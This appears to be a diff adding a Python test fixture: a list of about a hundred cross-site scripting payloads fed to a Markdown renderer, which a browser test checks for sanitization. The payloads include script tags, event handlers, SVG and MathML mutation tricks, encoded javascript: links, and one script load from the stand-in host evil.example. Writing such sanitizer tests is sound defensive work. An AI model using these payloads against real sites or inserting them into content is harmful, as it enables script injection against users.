@@ -1,0 +1,117 @@
+"""XSS payloads fed to the Markdown renderer; shared with browser tests.
+
+Each payload, if it survived rendering, would run ``window.__xss=1`` (or ``alert``), so a
+browser test can render them all into a page and assert ``window.__xss`` stays undefined.
+"""
+
+XSS_PAYLOADS: list[str] = [
+    # Classic script tags
+    "<script>window.__xss=1</script>",
+    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
+    "<script>alert(1)</script>",
+    "<<script>window.__xss=1//<</script>",
+    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
+    "<!--><script>window.__xss=1</script>-->",
+    "<!-- --!><script>window.__xss=1</script> -->",
+    # Event handlers on allowed and foreign elements
+    "<img src=x onerror=window.__xss=1>",
+    '<img src="x" onerror="alert(1)">',
+    "<img src=x onerror=window.__xss=1//",
+    "<IMG SRC=x OnErRoR=window.__xss=1>",
+    "<img src=x\tonerror=window.__xss=1>",
+    "<img/src=x/onerror=window.__xss=1>",
+    '<a href="https://example.com" onmouseover="window.__xss=1">hover</a>',
+    "<p onclick=window.__xss=1>click</p>",
+    "<body onload=window.__xss=1>",
+    "<details open ontoggle=window.__xss=1>",
+    "<input autofocus onfocus=window.__xss=1>",
+    "<video><source onerror=window.__xss=1></video>",
+    # SVG
+    "<svg onload=window.__xss=1>",
+    "<svg><script>window.__xss=1</script></svg>",
+    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
+    "<svg><a><animate attributeName=href values=javascript:window.__xss=1 />"
+    "<text x=20 y=20>X</text></a></svg>",
+    "<svg><set attributeName=onmouseover to=window.__xss=1 /></svg>",
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
+    '<image href=1 onerror=window.__xss=1 /></svg>#x"/></svg>',
+    # MathML / mutation XSS
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
+    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
+    '<a title="</style><img src onerror=window.__xss=1>">',
+    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">'
+    "x</maction></math>",
+    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
+    "<template><img src=x onerror=window.__xss=1></template>",
+    "<textarea></textarea><img src=x onerror=window.__xss=1></textarea>",
+    "<title><img src=x onerror=window.__xss=1></title>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
+    # Frames, objects, embeds
+    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+    "<iframe src=javascript:window.__xss=1></iframe>",
+    '<object data="javascript:window.__xss=1"></object>',
+    '<embed src="data:text/html,<script>parent.__xss=1</script>">',
+    # javascript: links and images, Markdown form
+    "[x](javascript:window.__xss=1)",
+    "[x](javascript:alert(1))",
+    "[x](jAvAsCrIpT:window.__xss=1)",
+    "[x](javascript&#58;window.__xss=1)",
+    "[x](&#106;avascript:window.__xss=1)",
+    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=1)",
+    "[x](<java\tscript:window.__xss=1>)",
+    "[x](java%0ascript:window.__xss=1)",
+    "[x]( javascript:window.__xss=1 )",
+    "[x](\\javascript:window.__xss=1)",
+    "![x](javascript:window.__xss=1)",
+    "[x][r]\n\n[r]: javascript:window.__xss=1",
+    "<javascript:window.__xss=1>",
+    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+)",
+    "[x](vbscript:msgbox(1))",
+    # javascript: links and images, raw HTML form
+    '<a href="javascript:window.__xss=1">x</a>',
+    '<a href="jAvAsCrIpT:window.__xss=1">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1">x</a>',
+    '<a href="java\tscript:window.__xss=1">x</a>',
+    '<a href="java&#x0A;script:window.__xss=1">x</a>',
+    '<a href=" \x01javascript:window.__xss=1">x</a>',
+    '<a href="data:text/html,<script>window.__xss=1</script>">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    "<a href=`javascript:window.__xss=1`>x</a>",
+    '<a href="https://example.com`" onclick=`window.__xss=1`>x</a>',
+    '<img src="javascript:window.__xss=1">',
+    '<img src="data:image/svg+xml,<svg onload=window.__xss=1>">',
+    # Style, meta, base, form
+    '<div style="width: expression(window.__xss=1)">x</div>',
+    '<div style="background:url(javascript:window.__xss=1)">x</div>',
+    "<style>@import 'javascript:window.__xss=1';</style>",
+    '<style>body{background:url("javascript:window.__xss=1")}</style>',
+    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
+    '<base href="javascript:window.__xss=1//">',
+    '<form action="javascript:window.__xss=1"><button>go</button></form>',
+    '<button formaction="javascript:window.__xss=1">go</button>',
+    '<isindex action="javascript:window.__xss=1" type=image>',
+    '<link rel="stylesheet" href="javascript:window.__xss=1">',
+    # Attribute injection through Markdown link titles, alts and autolinks
+    '[a](http://x "\\" onmouseover=window.__xss=1 x=\\"")',
+    "[a](http://x 'x\" onmouseover=\"window.__xss=1')",
+    '[a](http://x" onmouseover="window.__xss=1)',
+    '![a" onerror="window.__xss=1](http://x/y.png)',
+    '![x](http://x/y.png "\\" onerror=window.__xss=1 x=\\"")',
+    "![<img src=x onerror=window.__xss=1>](http://x/y.png)",
+    '<http://x/" onmouseover="window.__xss=1>',
+    "<https://example.com/?q=<script>window.__xss=1</script>>",
+    '<x@example.com" onmouseover="window.__xss=1>',
+    '<http://x/"onmouseover="window.__xss=1>',
+    "<JavaScript:window.__xss=1>",
+    # Broken and nested markup, quote attribution, code
+    '<img src=x onerror="window.__xss=1"',
+    "<a href='javascript:window.__xss=1'<b>x</b>",
+    "> quoted\n> — <script>window.__xss=1</script>",
+    "> quoted\n> -- [name](javascript:window.__xss=1)",
+    "`<script>window.__xss=1</script>`",
+    "```html\n<script>window.__xss=1</script>\n```",
+    "| a |\n|---|\n| <img src=x onerror=window.__xss=1> |",
+    "**<svg onload=window.__xss=1>**",
+]
